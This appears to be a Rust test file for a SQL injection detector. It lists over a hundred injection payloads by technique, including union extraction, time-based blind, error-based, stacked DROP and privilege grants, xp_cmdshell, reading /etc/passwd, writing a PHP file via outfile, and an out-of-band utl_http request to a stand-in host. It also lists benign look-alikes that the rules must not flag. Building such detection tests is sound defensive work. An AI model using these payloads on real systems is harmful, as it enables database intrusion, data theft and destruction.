//! What the rules find, what they leave alone, and that none of them is idle.

use super::RULES;
use crate::regex::RegexSet;

/// One row for each shape of an injection.
const ATTACKS: &[&str] = &[
    // Columns of another table.
    "' UNION SELECT 1,2,3-- -",
    "-1 union all select null,null,concat(user,0x3a,password) from mysql.user#",
    "1' uNiOn aLl SeLeCt @@version,2,3 -- x",
    "x' UNION(SELECT(1),(2),(3))-- ",
    "1/**/union/*x*/select/**/username,password/**/from/**/users",
    "1%20union%20select%201,table_name%20from%20information_schema.tables",
    "99999 union%0aselect%0a1,2",
    "') UNION SELECT 'a','b' FROM dual--",
    "8.0union distinct select 1,2",
    "id=1 union select top 1 name from master..sysdatabases",
    "Gifts' UNION SELECT password FROM users WHERE 'a'<>'b",
    "0 union values row(1)",
    "1 union --xYz\nselect #abc\npassword from users",
    // A condition of constants.
    "' or 1=1--",
    "' OR '1'='1",
    "\" or \"\"=\"",
    "') or ('x'='x",
    "1 or 1=1",
    "1) AND 8234=8234 AND (4411=4411",
    "-5864' OR 3301=3301#",
    "admin' || 1=1 --",
    "a'/**/or/**/1/**/like/**/1",
    "%27%20or%201=1",
    "%2527 or 1 = 1",
    "&#39; or 1=1#",
    "\u{ff07} or 1=1 --",
    "' or not 1=2 --",
    "'having 1=1--",
    "or 1=1",
    "7 && 2>1",
    "x' and 'qwe' like 'qwe",
    "' or 'text' > 't",
    "' or n'1'=n'1",
    "name or 'a'='a",
    "') or true--",
    "' || 1#",
    "y' or 1 %23",
    "smith) or 7=7--",
    "foo bar and true/*",
    // A condition on data.
    "' or username='admin",
    "' AND password LIKE 'a%",
    "x' and email is not null; --",
    "' and (select count(*) from users)>0 --",
    "x' and exists(select 1 from users)--",
    "1 and ascii(substr((select database()),1,1))>64",
    "7) or (length(user())<10",
    "1 and @@version like '8%'",
    "O''Reilly' or role='root",
    "' and substring(password,1,1)='a",
    "1 AND ORD(MID((SELECT IFNULL(CAST(x AS CHAR),0x20) FROM t LIMIT 0,1),1,1))>96",
    "' OR 7>1--",
    "' or 1 is not null #",
    "%27%29%20or%20%28%271%27%3D%271",
    "'or(1)=(1)#",
    "1 OR 2+8-6-1=3 --",
    "-5 OR 839=(SELECT 839 FROM PG_SLEEP(15))--",
    "(case when 1=1 then name else price end)",
    "' and 1 in (select min(name) from sysobjects) --",
    // The rest of the statement is cut off.
    "admin'--",
    "root@example.com' -- -",
    "1')#",
    "admin\" /*",
    "guest';%00",
    "administrator%27--+",
    "x','admin','1')-- -",
    "user', 1, true); --",
    // How many columns there are.
    "1' ORDER BY 10-- -",
    "1 order by 1,2,3,4,5",
    "-1) GROUP BY 7--",
    "' order/**/by 3#",
    "' group by userid having 1=1--",
    // A further statement.
    "1; DROP TABLE users",
    "Robert'); DROP TABLE students;--",
    "'; insert into admins values('x','y')--",
    "x'; update users set role='admin' where name='me",
    "10;delete from sessions",
    "'; EXEC sp_configure 'show advanced options',1--",
    "1;declare @q varchar(99)",
    "5'; shutdown--",
    "1; select * from pg_shadow",
    "';grant dba to scott",
    "1;if(len(db_name())>3) select 1",
    "'; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "1'; begin declare @a int; end --",
    "' exec sp_addsrvrolemember 'name', 'sysadmin' --",
    // A subquery or a call joined to the value.
    "'||(select password from users where rownum=1)||'",
    "'+(select top 1 name from sysobjects)+'",
    "1-(case when (1=1) then 0 else 1 end)",
    "'||(select name\nfrom users)||'",
    "' RLIKE (SELECT (CASE WHEN (5=5) THEN 0x61 ELSE 0x28 END))",
    "3 in (select id from users)",
    "'=if(1=1,1,0)='",
    "abc'-benchmark(9999999,1)-'",
    "foo' RLIKE (SELECT 1)-- -",
    // Calls that wait.
    "1 or sleep(5)#",
    "'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "if(1=1,sleep(5),0)",
    "(select(0)from(select(sleep(6)))v)",
    "(select sleep(5))",
    "1) WAITFOR DELAY '0:0:5'--",
    "'||pg_sleep(10)--",
    "sleep(9)--",
    "a and benchmark(5000000,md5(0x41))",
    "x||dbms_pipe.receive_message(('a'),10)",
    "LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    // Calls that fail and tell.
    "extractvalue(1,concat(0x7e,version()))",
    "name and updatexml(null,concat(0x0a,(select user())),null)",
    "(select count(*),concat(version(),floor(rand(0)*2))x from y group by x)",
    "id procedure analyse(1,1)",
    "exp(~(select*from(select user())x))",
    "cast((select version()) as int)",
    "convert(int,@@version)",
    "ctxsys.drithsx.sn(1,(select user from dual))",
    "1' and extractvalue(rand(),concat(0x3a,version()))-- -",
    // Files and commands of the server.
    "select '<?php ?>' into outfile '/var/www/html/x.php'",
    "load_file('/etc/passwd')",
    "load_file(0x2f6574632f706173737764)",
    "EXEC master..xp_cmdshell 'whoami'",
    "exec sp_oacreate 'wscript.shell',@o out",
    "COPY t FROM PROGRAM 'id'",
    "utl_http.request('http://x.example/'||user)",
    "pg_read_file('/etc/passwd',0,200)",
    // Spelt so that only the database can read it.
    "x/*!50000union*/all",
    "/*!or*/ id",
    "chr(97)||chr(100)||chr(109)",
    "char(65)+char(66)+char(67)",
    // Several contexts at once.
    "SLEEP(1)/*' or SLEEP(1) or '\" or SLEEP(1) or \"*/",
    "1' AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(1)</script>',table_name FROM x WHERE 2>1--/**/",
];

/// What honest people and programs say.
const LOOK_ALIKES: &[&str] = &[
    // Prose with the words of SQL.
    "",
    "select all from the list",
    "union, select committee",
    "The union select a new leader each year",
    "The credit union select members from every branch, then vote.",
    "Reunion: select your seat (by Friday)",
    "European Union - select your country",
    "Please drop the table off at my place, insert the coin and delete the photos from my phone",
    "I'd order by 5, or group by 6 if you're late",
    "Where's the update? Set the alarm, or else sleep (8h) and execute the plan",
    "Don't forget; drop by, create something, or delete it",
    "Having 2 or 3 = fine by me",
    "It's true and I like it",
    "Don't you like 'em or what?",
    "I didn't and won't; shutdown is at 5",
    "He said 'yes' and she said 'no'",
    "\"Yes\" or \"no\"? \"Yes\" = good",
    "The Smiths' and Jones' house -- the red one",
    "I was just thinkin' -- never mind",
    "1 or 2",
    "2 or 3 of us",
    "10 and counting; select one",
    "3rd and 4th are like 1st",
    "5' or 6' tall, 5'11\" to be exact",
    "6' and 7' boards; 2\" x 4\" studs",
    "24\" or 27\" monitor?",
    "like, 1 in 10",
    // Names and other languages.
    "O'Brien",
    "D'Angelo, O'Neill & O'Connor",
    "rock 'n' roll; drop me a line",
    "L'union fait la force, d'accord ou pas ?",
    "l'ordre et l'oreille d'Amélie",
    "Gib's mir und gut ist's; oder 'nicht'",
    "C'è un'altra or'ora",
    "'s avonds and 's morgens",
    "Я не знаю, 'или' да",
    "我们 union 了 select 一下",
    "qu'or et argent",
    "Hawai'i or Ka'a'awa",
    "Don't @ me 🙃 -- #blessed",
    "the boys' #1 fan",
    // Mathematics and scores.
    "1=1 in maths",
    "2 and 2 = 4",
    "1 + 1 = 2 and 3 > 2",
    "x = 1 or x = 2",
    "0 < x and y < 3",
    "3-2 (1-1)",
    "f'(x) = 2x and g'(x) = 3",
    "a' and b' are primes",
    "5 - (3 or 4)",
    "1--2",
    // SQL that people talk about.
    "SELECT * FROM users WHERE name = 'x' AND age = 3 ORDER BY 1",
    "SELECT id, name FROM t WHERE a = '' OR b = 'y' -- both",
    "SELECT COUNT(*) FROM orders GROUP BY 1, 2 HAVING COUNT(*) > 1;",
    "INSERT INTO t (a, b) VALUES ('x', 'it''s'); SELECT * FROM t;",
    "BEGIN; DROP TABLE old; COMMIT;",
    "DROP TABLE IF EXISTS users; CREATE TABLE users (id int);",
    "UPDATE users SET role = 'admin' WHERE id = 5;",
    "How do I join two tables? UNION or JOIN?",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    "does `SELECT pg_sleep(10)` block other sessions?",
    "WHERE 1=1 is what the query builder adds",
    "SET @total = (SELECT SUM(x) FROM y)",
    "PRINT 'a' + CHAR(13) + CHAR(10) + 'b'",
    "CAST(price AS int), CONVERT(varchar, d)",
    "EXPLAIN SELECT a FROM b WHERE c IN (SELECT d FROM e)",
    "xp_cmdshell is off by default",
    "/*!40101 SET NAMES utf8 */;",
    "extractvalue(doc, '/a/b') is deprecated",
    // Code in other languages.
    "if (a == 'x' and b == 'y') or c == \"z\":",
    "x === '' || y === 'b' && z",
    "print('done')  # all good",
    "const s = 'a' + (b || 'c') + \"d\"; // ok",
    "time.sleep(5) # wait",
    "await Promise.race([fetch(u), sleep(5)])",
    "await ready || sleep(100)",
    "if (x) { sleep(1); }",
    "local t = 'a' -- comment",
    "name: 'web' # the service",
    "grep -v '#' file || echo \"none\"",
    "curl -d '{\"a\":1}' -- http://example.com/",
    "git commit -m 'fix' -- src/a.rs",
    "String s = rs.getString(\"or\"); s.equals(\"a\")",
    "Vec<Option<&'a str>> -> impl Iterator<Item = &'a str> + '_",
    "<b class=\"x\" id='y'>Tom & Jerry</b>",
    "<a href=\"#\">top</a> /* x */",
    "{\"op\":\"or\",\"left\":\"a\",\"right\":\"b\"}",
    "/^[a-z']+(?:--)?$/i",
    "body { content: '\\201C'; } /* quote */",
    "chr(65) + chr(66)",
    "=IF(A1=1,\"x\",\"y\")",
    "full_url += \"&Action=Response\"",
    "140 |     if ((op == p->type",
    "and len(buffer) + len(data) > max",
    "assert Or('a') == 'a'",
    "( matches[3] || \"px\" ) !== \"px\"",
    "0;if(n&&(n.memo=o?\"miss\":\"hit\"),!o)return",
    "transfer.upload_file('/tmp/file', 'bucket')",
    "let map = load_file(\"assets/map.txt\")?;",
    "comments.push_str(\"#",
    "print(\"--",
    "REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM public;",
    "the boys' and girls in class like it",
    "is it 24\" or 27 #monitor",
    // Machine text.
    "https://example.com/search?q=union+station&order=by&select=1#top",
    "https://example.com/it%27s-here?a=1&b=%22x%22",
    "C:\\Users\\O'Neil\\union\\select.sql",
    "/var/lib/postgresql/data/base/1--2",
    "john.o'connor@example.com",
    "2024-01-01T00:00:00Z",
    "550e8400-e29b-41d4-a716-446655440000",
    "c2VsZWN0IHVuaW9uIG9yIDE9MQ==",
    "$2b$12$abcdefghijklmnopqrstuv",
    "order_by",
    "-1",
    "'",
    "\"--help\"",
    "--",
    "'*'",
];

fn set(rules: &[(&str, &str)]) -> RegexSet {
    RegexSet::new(rules.iter().map(|(_, pattern)| *pattern)).unwrap()
}

/// Whether each of `texts` is found, or none of them.
#[track_caller]
fn check(texts: &[&str], found: bool) {
    let rules = set(RULES);
    let name = |text: &str| rules.first_match(text).map(|index| RULES[index].0);
    let wrong: Vec<_> = texts.iter().map(|text| (text, name(text))).filter(|row| row.1.is_some() != found).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_found() {
    check(ATTACKS, true);
}

#[test]
fn look_alikes_are_left_alone() {
    check(LOOK_ALIKES, false);
}

#[test]
fn every_rule_finds_what_the_others_miss() {
    for (index, (name, _)) in RULES.iter().enumerate() {
        let others = set(&[&RULES[..index], &RULES[index + 1..]].concat());
        assert!(ATTACKS.iter().any(|text| others.first_match(text).is_none()), "{name} finds nothing by itself");
    }
}
